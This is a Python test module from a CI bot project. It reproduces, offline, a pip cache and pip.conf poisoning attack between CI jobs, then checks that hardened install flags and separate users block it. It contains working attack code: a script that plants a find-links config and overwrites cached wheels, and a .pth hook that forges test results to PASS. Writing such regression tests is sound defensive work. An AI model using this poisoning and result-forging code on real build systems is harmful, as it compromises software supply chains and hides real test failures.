"""Attack: the bot's own install is poisoned through pip's cache and pip's config (issue 27).

The old device action installed the bot with pip's defaults into a venv of the runner's
user: ``pip install "qnn-migrate[bot] @ git+https://...@<sha>"``. pip builds that wheel
once and reuses it from ``~/.cache/pip/wheels/`` (a commit-pinned VCS URL counts as
immutable), and reads ``~/.config/pip/pip.conf``. Job 1's PR code, running as that same
user, replaces the cached wheel and adds an index (here, find-links) that serves a
"newer" dependency; job 2's install takes both, and job 2 runs the attacker's code in
the supervisor: here a ``.pth`` that rewrites run-shard's ``result.json`` to PASS.

Offline stand-ins keep the shape: ``qnn_lab_bot`` (a git repository with an in-tree
build backend: pip builds and caches it as it does qnn-migrate) depends on
``qnn_lab_dep`` (1.0 in the host's wheelhouse; 9.0, poisoned, in the attacker's). The
run-shard that reads the results is the real one, run from the installed venv.

- The control, the old arrangement (the old pip command, job 1 as the supervisor's
  user): job 2's install takes the poisoned wheel and dependency; its failing test reads
  PASS.
- Two users and the new action (``.github/actions/run-shard/action.yml``'s pip flags,
  read from the file: ``--isolated --no-cache-dir --require-hashes --no-deps``; the bot is
  the action's own tree): job 1, a job user, cannot write the supervisor's home; and with
  the poisoned cache and config planted anyway (as a single-user past would leave them),
  the install takes only the pinned wheel. Job 2's failing test reads FAIL.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import click
import defusedxml
from qnn_migrate_tests.bot.lab.support import ABS, ADD, ROOT, git, statuses
from qnn_migrate_tests.bot.two_users import SYSTEM_PYTHON, TwoUserLab, notes, read_note, write_host
from ruamel.yaml import YAML

from qnn_migrate.bot.lab.runner import Runner
from qnn_migrate.bot.model import Status

ACTION = ROOT / ".github" / "actions" / "run-shard" / "action.yml"
REQUIREMENTS = ROOT / ".github" / "actions" / "run-shard" / "requirements.txt"
FORGE = '''"""The attacker's code in the supervisor: run-shard's result.json reads PASS at exit."""
import atexit, json, os, sys

def _forge():
    if "--out" not in sys.argv:
        return
    path = os.path.join(sys.argv[sys.argv.index("--out") + 1], "result.json")
    try:
        with open(path) as handle:
            doc = json.load(handle)
        for result in doc["results"]:
            result["status"], result["message"] = "PASS", ""
        doc["infra_reason"] = None
        with open(path, "w") as handle:
            json.dump(doc, handle)
    except (OSError, ValueError):
        pass

atexit.register(_forge)
'''
POISON = {"zz_forge.pth": b"import qnn_lab_forge\n", "qnn_lab_forge.py": FORGE.encode()}
BACKEND = '''"""An in-tree PEP 517 backend: builds qnn_lab_bot's wheel with nothing to download."""
import base64, hashlib, os, zipfile

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    info = "qnn_lab_bot-1.0.dist-info"
    files = {
        "qnn_lab_bot/__init__.py": b'KIND = "genuine"\\n',
        info + "/METADATA": b"Metadata-Version: 2.1\\nName: qnn_lab_bot\\nVersion: 1.0\\n"
        b"Requires-Dist: qnn_lab_dep\\n",
        info + "/WHEEL": b"Wheel-Version: 1.0\\nGenerator: lab\\nRoot-Is-Purelib: true\\n"
        b"Tag: py3-none-any\\n",
    }
    record = ["%s,sha256=%s,%d" % (n, base64.urlsafe_b64encode(hashlib.sha256(d).digest())
              .rstrip(b"=").decode(), len(d)) for n, d in files.items()]
    files[info + "/RECORD"] = ("\\n".join(record + [info + "/RECORD,,"]) + "\\n").encode()
    name = "qnn_lab_bot-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return name
'''
PLANT = """
import glob, os, shutil
notes, home, evil = {notes!r}, {home!r}, {evil!r}
def note(text):
    with open(os.path.join(notes, "install.txt"), "a") as handle:
        handle.write(text + "\\n")
try:
    os.makedirs(os.path.join(home, ".config", "pip"), exist_ok=True)
    with open(os.path.join(home, ".config", "pip", "pip.conf"), "w") as handle:
        handle.write("[global]\\nfind-links = " + evil + "\\n")
    note("wrote pip.conf")
except OSError as exc:
    note("could not write pip.conf: " + type(exc).__name__)
cached = glob.glob(os.path.join(home, ".cache", "pip", "wheels", "**", "qnn_lab_bot-*.whl"),
                   recursive=True)
if not cached:
    note("found no cached wheel")
for path in cached:
    try:
        shutil.copyfile(os.path.join(evil, os.path.basename(path)), path)
        note("replaced the cached wheel")
    except OSError as exc:
        note("could not replace the cached wheel: " + type(exc).__name__)
"""


def wheel(
    folder: Path, name: str, version: str, files: dict[str, bytes], requires: str = ""
) -> Path:
    """A pure-Python wheel, built in place."""
    folder.mkdir(parents=True, exist_ok=True)
    info = f"{name}-{version}.dist-info"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    files = {
        **files,
        f"{info}/METADATA": (meta + (f"Requires-Dist: {requires}\n" if requires else "")).encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: lab\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    files[f"{info}/RECORD"] = ("\n".join([*record, f"{info}/RECORD,,"]) + "\n").encode()
    target = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(target, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return target


def action_pip_flags() -> list[str]:
    """The flags of the action's ``pip install`` (its install step, continuation lines joined)."""
    steps = YAML(typ="safe").load(ACTION.read_text())["runs"]["steps"]
    script = next(s["run"] for s in steps if "pip install" in s.get("run", ""))
    command = next(c for c in script.replace("\\\n", " ").splitlines() if "pip install" in c)
    words = shlex.split(command)
    flags = words[words.index("install") + 1 :]
    return flags[: flags.index("-r")]


def _lab_files(t: TwoUserLab) -> dict[str, Path | str]:
    genuine = t.root / "wheelhouse"
    wheel(genuine, "qnn_lab_dep", "1.0", {"qnn_lab_dep/__init__.py": b"VERSION = '1.0'\n"})
    evil = t.root / "attacker"
    wheel(evil, "qnn_lab_dep", "9.0", {"qnn_lab_dep/__init__.py": b"VERSION = '9.0'\n", **POISON})
    wheel(evil, "qnn_lab_bot", "1.0", {"qnn_lab_bot/__init__.py": b'KIND = "evil"\n', **POISON})
    bot_repo = t.root / "qnn-lab-bot"
    bot_repo.mkdir()
    (bot_repo / "backend.py").write_text(BACKEND)
    (bot_repo / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "qnn_lab_bot"\nversion = "1.0"\n'
    )
    git(bot_repo, "init", "-q")
    git(bot_repo, "add", ".")
    git(bot_repo, "commit", "-qm", "the bot stand-in")
    sha = git(bot_repo, "rev-parse", "HEAD")
    # What run-shard imports beyond the standard library (the action's requirements.txt),
    # copied from this venv: the bot venvs below get it through a .pth.
    deps = t.root / "deps"
    for module in (click, defusedxml):
        shutil.copytree(Path(module.__file__).parent, deps / module.__name__)
    requirements = t.root / "requirements.txt"
    digest = hashlib.sha256((genuine / "qnn_lab_dep-1.0-py3-none-any.whl").read_bytes()).hexdigest()
    requirements.write_text(f"qnn_lab_dep==1.0 --hash=sha256:{digest}\n")
    return {
        "genuine": genuine,
        "evil": evil,
        "bot": f"git+file://{bot_repo}@{sha}",
        "deps": deps,
        "requirements": requirements,
    }


def _bot_venv(t: TwoUserLab, name: str, files: dict[str, Path]) -> Path:
    """A venv of the supervisor's, with run-shard's dependencies and qnn-migrate by .pth."""
    venv = t.root / name
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    (_site(venv) / "qnn_lab_deps.pth").write_text(f"{files['deps']}\n{ROOT}\n")
    return venv


def _pip(t: TwoUserLab, venv: Path, *args: str, isolated_env: bool) -> None:
    """pip for ``venv`` as the install step runs it: the supervisor's HOME (the lab's root),
    none of this machine's own pip settings, no index (the tests are offline)."""
    env = {"PATH": "/usr/bin:/bin", "HOME": str(t.root), "XDG_CONFIG_DIRS": str(t.root / "no-xdg")}
    if not isolated_env:
        env["PIP_NO_INDEX"] = "1"
    argv = [sys.executable, "-m", "pip", "--python", str(venv / "bin" / "python"), "install", *args]
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr


def _site(venv: Path) -> Path:
    code = "import sysconfig; print(sysconfig.get_paths()['purelib'])"
    got = subprocess.run(
        [str(venv / "bin" / "python"), "-I", "-c", code], capture_output=True, text=True
    )
    return Path(got.stdout.strip())


def _installed(venv: Path) -> dict[str, str]:
    got = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "import qnn_lab_dep; print(qnn_lab_dep.VERSION)"],
        capture_output=True,
        text=True,
        check=False,
    )
    forge = (_site(venv) / "zz_forge.pth").exists()
    return {"qnn_lab_dep": got.stdout.strip(), "forge": str(forge)}


def _job2(t: TwoUserLab, venv: Path, config: Path) -> list[str]:
    """Job 2 (abs really fails) through the installed bot's run-shard; what it uploads."""
    shard = t.root / "job2.shard.json"
    shard.write_text(json.dumps(t.lab.shard(ABS).to_dict()))
    argv = [str(venv / "bin" / "python"), "-m", "qnn_migrate", "bot", "run-shard"]
    argv += ["--shard", str(shard), "--host-config", str(config), "--out", str(t.root / "job2")]
    done = subprocess.run(argv, env=t.lab.env(), capture_output=True, text=True, timeout=300)
    assert (t.root / "job2" / "result.json").is_file(), done.stdout + done.stderr
    doc = json.loads((t.root / "job2" / "result.json").read_text())
    return [r["status"] for r in doc["results"]]


def _job1(t: TwoUserLab, files: dict[str, Path], two_users: bool) -> None:
    """Job 1: its test plants the poison in the supervisor's home (the lab's root)."""
    hostile = PLANT.format(notes=str(notes(t)), home=str(t.root), evil=str(files["evil"]))
    t.lab.scenario(tests={ADD: "hostile", ABS: "fail"}, hostile={ADD: hostile})
    common = {"python": SYSTEM_PYTHON, "env": {"PYTHONPATH": "${checkout}"}}
    if two_users:  # two runners' job users on an ephemeral host: job 2 gets the second
        settings = t.settings("job1", users=t.users[:2], **common)
    else:
        settings = t.lab.settings("job1", **common)
    assert statuses(Runner(settings).run(t.lab.shard(ADD))) == [Status.PASS]


def test_the_action_installs_with_hashes_no_cache_no_config_and_no_deps() -> None:
    flags = action_pip_flags()
    for flag in ("--isolated", "--no-cache-dir", "--require-hashes", "--no-deps"):
        assert flag in flags, flag
    assert "git+" not in ACTION.read_text(), "the bot comes from the action's tree, not a URL"
    # The requirements: each line pinned by version and hash, at constraints.txt's version.
    pins = dict(
        re.findall(r"^([A-Za-z0-9_.-]+)==(\S+)", (ROOT / "constraints.txt").read_text(), re.M)
    )
    lines = [ln for ln in REQUIREMENTS.read_text().splitlines() if ln and not ln.startswith("#")]
    found = {}
    for line in lines:
        matched = re.fullmatch(r"([A-Za-z0-9_.-]+)==(\S+) --hash=sha256:[0-9a-f]{64}", line)
        assert matched, line
        found[matched[1].lower()] = matched[2]
    assert found == {"click": pins["click"], "defusedxml": pins["defusedxml"]}


def test_control_one_user_job_1_poisons_the_cache_and_pip_config_and_job_2_reads_pass(
    two_user_lab: TwoUserLab,
) -> None:
    t = two_user_lab
    files = _lab_files(t)
    old = ["--find-links", str(files["genuine"]), str(files["bot"])]
    _pip(t, _bot_venv(t, "venv-job0", files), *old, isolated_env=False)  # the cache is made
    _job1(t, files, two_users=False)
    assert read_note(t, "install.txt") == "wrote pip.conf\nreplaced the cached wheel\n"
    venv = _bot_venv(t, "venv-job2", files)
    _pip(t, venv, *old, isolated_env=False)
    assert _installed(venv) == {"qnn_lab_dep": "9.0", "forge": "True"}
    config = write_host(t, t.lab.host(python=SYSTEM_PYTHON, env={"PYTHONPATH": "${checkout}"}))
    assert _job2(t, venv, config) == ["PASS"]  # abs fails, and reads PASS


def test_two_users_the_new_install_takes_only_the_pinned_wheels_and_job_2_reads_fail(
    two_user_lab: TwoUserLab,
) -> None:
    t = two_user_lab
    files = _lab_files(t)
    new = [*action_pip_flags(), "--no-index", "--find-links", str(files["genuine"])]
    new += ["-r", str(files["requirements"])]
    _pip(t, _bot_venv(t, "venv-job0", files), *new, isolated_env=True)
    _job1(t, files, two_users=True)
    said = read_note(t, "install.txt")
    assert said == "could not write pip.conf: PermissionError\nfound no cached wheel\n", said
    # As if a single-user past had left both behind: the new install reads neither.
    (t.root / ".config" / "pip").mkdir(parents=True)
    (t.root / ".config" / "pip" / "pip.conf").write_text(
        f"[global]\nfind-links = {files['evil']}\n"
    )
    cached = t.root / ".cache" / "pip" / "wheels" / "aa" / "qnn_lab_dep-9.0-py3-none-any.whl"
    cached.parent.mkdir(parents=True)
    shutil.copy(files["evil"] / "qnn_lab_dep-9.0-py3-none-any.whl", cached)
    venv = _bot_venv(t, "venv-job2", files)
    _pip(t, venv, *new, isolated_env=True)
    assert _installed(venv) == {"qnn_lab_dep": "1.0", "forge": "False"}
    config = write_host(
        t, t.host(t.users[:2], python=SYSTEM_PYTHON, env={"PYTHONPATH": "${checkout}"})
    )
    assert _job2(t, venv, config) == ["FAIL"]
